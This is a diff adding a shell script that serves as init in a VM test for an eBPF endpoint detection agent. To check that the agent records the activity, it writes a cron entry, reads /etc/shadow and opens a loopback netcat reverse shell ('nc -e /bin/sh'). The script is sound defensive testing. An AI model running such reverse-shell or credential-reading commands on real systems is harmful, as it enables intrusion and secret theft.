@@ -1,0 +1,141 @@
+#!/bin/sh
+# PID 1 of the `cargo xtask vm-test` guest (busybox-static initramfs).
+#
+# Mounts what the agent needs, starts it as the packaged unit would (the
+# installed binary and BPF object, a root-owned config), runs the workload,
+# stops the agent with SIGTERM, then hands everything back to the host on
+# the second serial port (/dev/ttyS1, a file on the host) and powers off.
+# It asserts nothing: it records what it did (pids, ports, exit statuses)
+# as key=value facts, and the host (xtask/src/vm/suite.rs) checks the
+# agent's records against them with clear messages.
+#
+# Every section on ttyS1 is framed as
+#   ==RG-BEGIN <name> <bytes>==\n<bytes of the file>\n==RG-END <name>==\n
+# with the port in raw mode, so the host can check it got every byte.
+export PATH=/bin
+FACTS=/tmp/facts
+DATA=/dev/ttyS1
+
+fact() { echo "$1=$2" >>"$FACTS"; }
+
+mount -t proc proc /proc
+mount -t sysfs sysfs /sys
+mount -t devtmpfs devtmpfs /dev
+mount -t tmpfs tmpfs /tmp
+mount -t tmpfs tmpfs /run
+# The agent's needs, each verified: tracefs (the classic syscall
+# tracepoints' ids), debugfs (the older place of tracefs), bpffs.
+mount -t tracefs tracefs /sys/kernel/tracing
+mount -t debugfs debugfs /sys/kernel/debug
+mount -t bpf bpf /sys/fs/bpf
+: >"$FACTS"
+fact kernel "$(uname -r)"
+fact tracefs "$(test -d /sys/kernel/tracing/events/syscalls && echo mounted || echo missing)"
+fact debugfs "$(test -d /sys/kernel/debug/tracing && echo mounted || echo missing)"
+fact bpffs "$(grep -q ' /sys/fs/bpf bpf ' /proc/mounts && echo mounted || echo missing)"
+fact btf "$(test -r /sys/kernel/btf/vmlinux && echo present || echo missing)"
+ip link set lo up
+hostname rg-vm
+stty -F "$DATA" raw -echo
+
+# The agent, as the unit starts it.
+start=$(cut -d' ' -f1 /proc/uptime)
+EDR_CONFIG=/etc/rand-guard/config.toml EDR_EBPF_OBJECT=/usr/local/lib/rand-guard/edr-ebpf \
+	/usr/local/bin/rand-guard run --output /tmp/out.jsonl 2>/tmp/agent.err &
+agent=$!
+fact agent_pid "$agent"
+ready=no
+i=0
+# TCG emulates the verifier too: ready 3 to 19 s after the start here;
+# 300 s before giving up.
+while [ $i -lt 600 ]; do
+	if grep -q 'rand-guard: ready' /tmp/agent.err; then
+		ready=yes
+		break
+	fi
+	kill -0 "$agent" 2>/dev/null || break
+	sleep 0.5
+	i=$((i + 1))
+done
+fact ready "$ready"
+fact ready_seconds "$(awk -v s="$start" '{ printf "%.1f", $1 - s }' /proc/uptime)"
+fact driver_pid "$$"
+
+if [ "$ready" = yes ]; then
+	# exec, fork, exit: /bin/true and a shell exiting 3.
+	/bin/true &
+	pid=$!
+	wait "$pid"
+	fact true_status "$?"
+	fact true_pid "$pid"
+	/bin/sh -c 'exit 3' &
+	pid=$!
+	wait "$pid"
+	fact exit3_status "$?"
+	fact exit3_pid "$pid"
+
+	# A file written under a watched prefix (/etc), and one in /etc/cron.d.
+	/bin/sh -c 'printf "vm-test\n" > /etc/rg-vm-file' &
+	pid=$!
+	wait "$pid"
+	fact file_pid "$pid"
+	/bin/sh -c 'printf "* * * * * root /bin/true\n" > /etc/cron.d/rg-vm-cron' &
+	pid=$!
+	wait "$pid"
+	fact cron_pid "$pid"
+
+	# A read of a watched file (watch_reads: /etc/shadow).
+	/bin/cat /etc/shadow >/dev/null &
+	pid=$!
+	wait "$pid"
+	fact read_pid "$pid"
+
+	# A loopback connect (network on) to a listener on 4444.
+	nc -l -p 4444 >/dev/null </dev/null &
+	listener=$!
+	sleep 1
+	# (at the end of its stdin nc shuts its side down; the listener
+	# then closes, and both exit)
+	echo hello | /bin/nc 127.0.0.1 4444 &
+	pid=$!
+	wait "$pid"
+	fact connect_pid "$pid"
+	kill "$listener" 2>/dev/null
+	wait "$listener" 2>/dev/null
+
+	# A reverse shell: nc connects, puts the socket on stdin and stdout
+	# and execs a shell in the same process; the "attacker" sends it a
+	# command and keeps what comes back.
+	(
+		printf 'echo rg-vm-reverse-shell-marker\nexit\n'
+		sleep 3
+	) | nc -l -p 7001 >/tmp/attacker.out &
+	attacker=$!
+	sleep 1
+	nc 127.0.0.1 7001 -e /bin/sh &
+	pid=$!
+	wait "$pid"
+	fact revshell_pid "$pid"
+	wait "$attacker" 2>/dev/null
+	fact revshell_marker "$(grep -c rg-vm-reverse-shell-marker /tmp/attacker.out)"
+
+	# Give the poller a moment, then SIGTERM: everything must be flushed.
+	sleep 1
+fi
+kill -TERM "$agent" 2>/dev/null
+wait "$agent"
+fact agent_exit "$?"
+dmesg | tail -n 40 >/tmp/dmesg.tail
+
+emit() {
+	printf '\n==RG-BEGIN %s %s==\n' "$1" "$(wc -c <"$2")" >"$DATA"
+	cat "$2" >"$DATA"
+	printf '\n==RG-END %s==\n' "$1" >"$DATA"
+}
+emit facts "$FACTS"
+emit stderr /tmp/agent.err
+emit records /tmp/out.jsonl
+emit dmesg /tmp/dmesg.tail
+printf '\n==RG-DONE==\n' >"$DATA"
+sync
+poweroff -f
